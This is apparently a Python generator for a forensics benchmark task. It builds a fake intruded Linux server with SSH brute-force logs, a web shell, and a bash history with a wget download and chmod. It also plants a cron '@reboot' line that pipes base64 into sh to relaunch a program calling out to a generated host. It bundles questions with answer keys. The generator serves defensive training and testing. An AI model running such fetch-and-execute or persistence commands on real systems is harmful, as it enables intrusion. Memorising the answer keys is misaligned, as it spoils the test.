"""The visited server: logs, histories and files of a Linux host that an intruder got into."""

import base64
import hashlib
import io
import tarfile
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from swaplaw_forensic.synthetic.case import Asked, Case, choose
from swaplaw_forensic.synthetic.dice import Dice
from swaplaw_forensic.synthetic.words import FIRST_NAMES

GUESSES = ("root", "admin", "test", "oracle", "deploy", "backup", "www", "git", "guest", "support", "mysql", "ftp")
TOOLS = ("kworker", "udevd", "logrot", "sysmon", "netd", "crond2", "fontd")
SHELLS = ("image", "thumb", "cache", "style", "config", "avatar")


@dataclass
class Host:
    """A host in the making: its clock, its logs and its files."""

    dice: Dice
    clock: datetime
    name: str
    login: list[str]
    web: list[str]
    files: dict[str, bytes]

    def wait(self, low: int, high: int) -> datetime:
        """Let some seconds pass."""
        self.clock += timedelta(seconds=self.dice.between(low, high))
        return self.clock

    def sshd(self, text: str) -> None:
        """Add a line of the log of log-ins."""
        self.login.append(
            f"{self.clock:%Y-%m-%dT%H:%M:%S}+00:00 {self.name} sshd[{self.dice.between(700, 9000)}]: {text}"
        )

    def request(self, address: str, line: str, status: int) -> None:
        """Add a line of the web server's log."""
        size = self.dice.between(200, 9000)
        self.web.append(f'{address} - - [{self.clock:%d/%b/%Y:%H:%M:%S} +0000] "{line} HTTP/1.1" {status} {size}')


def build(dice: Dice) -> Case:
    """Build the archive of the host's files and its questions."""
    clock = datetime(2026, dice.between(1, 9), dice.between(1, 28), dice.between(0, 9), tzinfo=UTC)
    host = Host(dice, clock, f"{dice.word(5)}-srv{dice.between(1, 9)}", [], [], {})
    people = [name.lower() for name in dice.pick_some(FIRST_NAMES, 4)]
    attacker = f"203.0.113.{dice.between(2, 250)}"
    _quiet(host, people)
    pool = _guessing(host, people[0], attacker)
    pool += _intrusion(host, people[0], attacker)
    pool += _web_shell(host, attacker)
    _quiet(host, people)
    host.files["var/log/auth.log"] = ("\n".join(host.login) + "\n").encode()
    host.files[f"var/log/{dice.pick(('nginx', 'apache2'))}/access.log"] = ("\n".join(host.web) + "\n").encode()
    file = f"{dice.word(8)}.tar"
    prompt = (
        f"/evidence/{file} holds files of a Linux web server. Somebody guessed a password over SSH, got in, and "
        "arranged to come back. Find out what was done. The logs are in UTC."
    )
    return Case({file: _archive(host.files, clock)}, prompt, choose(dice, pool, leave_out=2))


def _quiet(host: Host, people: list[str]) -> None:
    """Add a quiet hour: log-ins by key, a few strangers who fail, pages."""
    for _ in range(host.dice.between(8, 14)):
        host.wait(60, 400)
        if host.dice.below(2):
            port, person = host.dice.between(30_000, 60_000), host.dice.pick(people)
            host.sshd(f"Accepted publickey for {person} from 198.51.100.{host.dice.between(2, 40)} port {port} ssh2")
        else:
            guess = host.dice.pick(GUESSES)
            host.sshd(
                f"Failed password for invalid user {guess} from 192.0.2.{host.dice.between(2, 250)} port 4022 ssh2"
            )
        host.request(f"198.51.100.{host.dice.between(2, 200)}", f"GET /{host.dice.word(5)}.html", 200)


def _guessing(host: Host, victim: str, attacker: str) -> list[Asked]:
    dice = host.dice
    tried = dice.pick_some(GUESSES, dice.between(3, 6))
    count = dice.between(25, 60)
    for number in range(count):
        host.wait(1, 5)
        guess = tried[number] if number < len(tried) else dice.pick(tried)
        host.sshd(f"Failed password for invalid user {guess} from {attacker} port {dice.between(30_000, 60_000)} ssh2")
    misses = dice.between(3, 9)
    for _ in range(misses):
        host.wait(1, 5)
        host.sshd(f"Failed password for {victim} from {attacker} port {dice.between(30_000, 60_000)} ssh2")
    when = host.wait(2, 9)
    host.sshd(f"Accepted password for {victim} from {attacker} port {dice.between(30_000, 60_000)} ssh2")
    return [
        Asked("attacker", "From which IP address did the intruder log in?", "text", "exact", {"accept": [attacker]}),
        Asked("guessed", "Which account's password was guessed?", "text", "normalised", {"accept": [victim]}),
        Asked(
            "failures",
            "How many password attempts from the intruder's address failed?",
            "number",
            "number",
            {"accept": [str(count + misses)]},
            level=2,
            builds_on="attacker",
        ),
        Asked(
            "tried",
            "List the account names that the intruder tried, including the guessed one.",
            "list",
            "set",
            {"items": [*tried, victim]},
            level=2,
            builds_on="attacker",
        ),
        Asked(
            "entered",
            "When did the intruder first log in (UTC)?",
            "time",
            "time",
            {"accept": [f"{when:%Y-%m-%dT%H:%M:%S}Z"], "tolerance": 1},
        ),
    ]


def _intrusion(host: Host, victim: str, attacker: str) -> list[Asked]:
    dice = host.dice
    account, tool = f"{dice.pick(('sys', 'svc', 'adm'))}{dice.word(4)}", dice.pick(TOOLS)
    url = f"http://{dice.word(7)}.{dice.pick(('top', 'xyz', 'icu'))}/{dice.word(4)}/{tool}.bin"
    place = f"{dice.pick(('tmp', 'var/tmp', 'dev/shm', 'opt'))}/.{dice.word(5)}/{tool}"
    program = b"\x7fELF\x02\x01\x01\0" + dice.bytes(dice.between(5_000, 12_000))
    host.files[place] = program
    server, port = f"{dice.word(6)}.{dice.pick(('top', 'xyz', 'icu'))}", dice.between(4000, 9999)
    command = f"/{place} --connect {server}:{port} --quiet"
    coded = base64.b64encode(command.encode()).decode()
    timer = f"etc/cron.d/{dice.word(6)}"
    host.files[timer] = f"@reboot root echo {coded} | base64 -d | sh\n".encode()
    host.files["etc/cron.d/logrotate"] = b"25 6 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate\n"
    host.wait(40, 90)
    host.login.append(
        f"{host.clock:%Y-%m-%dT%H:%M:%S}+00:00 {host.name} useradd[812]: new user: name={account}, UID=1009"
    )
    history = [
        "id",
        "uname -a",
        f"sudo useradd -m {account}",
        f"wget -q {url} -O /{place}",
        f"chmod +x /{place}",
        "history -c",
    ]
    host.files[f"home/{victim}/.bash_history"] = ("\n".join(["ls", "cd sites", "git pull", *history]) + "\n").encode()
    host.files["etc/passwd"] = f"root:x:0:0::/root:/bin/bash\n{victim}:x:1000:1000::/home/{victim}:/bin/bash\n".encode()
    return [
        Asked("account", "Which account did the intruder create?", "text", "normalised", {"accept": [account]}),
        Asked(
            "url",
            "From which URL did the intruder download a program?",
            "text",
            "normalised",
            {"accept": [url]},
            level=2,
        ),
        Asked(
            "program",
            "What is the SHA-256 of the program that the intruder downloaded?",
            "text",
            "normalised",
            {"accept": [hashlib.sha256(program).hexdigest()]},
            level=2,
            builds_on="url",
        ),
        Asked(
            "timer",
            "Which file starts the program again after a reboot? Give its full path.",
            "text",
            "normalised",
            {"accept": [f"/{timer}"]},
            level=2,
        ),
        Asked(
            "callback",
            "To which host and port does the program connect (host:port)?",
            "text",
            "exact",
            {"accept": [f"{server}:{port}"]},
            level=3,
            builds_on="timer",
        ),
    ]


def _web_shell(host: Host, attacker: str) -> list[Asked]:
    dice = host.dice
    path = f"/{dice.pick(('uploads', 'media', 'assets', 'files'))}/{dice.pick(SHELLS)}_{dice.word(4)}.php"
    host.request(attacker, f"POST {path.rsplit('/', 1)[0]}/", 201)
    count = dice.between(5, 14)
    for _ in range(count):
        host.wait(3, 50)
        host.request(attacker, f"GET {path}?c={dice.word(6)}", 200)
    host.request(f"198.51.100.{dice.between(2, 200)}", f"GET {path.rsplit('/', 1)[0]}/logo.png", 200)
    return [
        Asked(
            "shell",
            "Which path on the web server has the intruder's web shell?",
            "text",
            "normalised",
            {"accept": [path]},
        ),
        Asked(
            "commands",
            "How many requests with a command did the web shell get?",
            "number",
            "number",
            {"accept": [str(count)]},
            level=2,
            builds_on="shell",
        ),
    ]


def _archive(files: dict[str, bytes], when: datetime) -> bytes:
    """Return a tar archive whose bytes depend on nothing but its arguments."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name in sorted(files):
            member = tarfile.TarInfo(name)
            member.size, member.mtime, member.mode = len(files[name]), int(when.timestamp()), 0o644
            archive.addfile(member, io.BytesIO(files[name]))
    return out.getvalue()
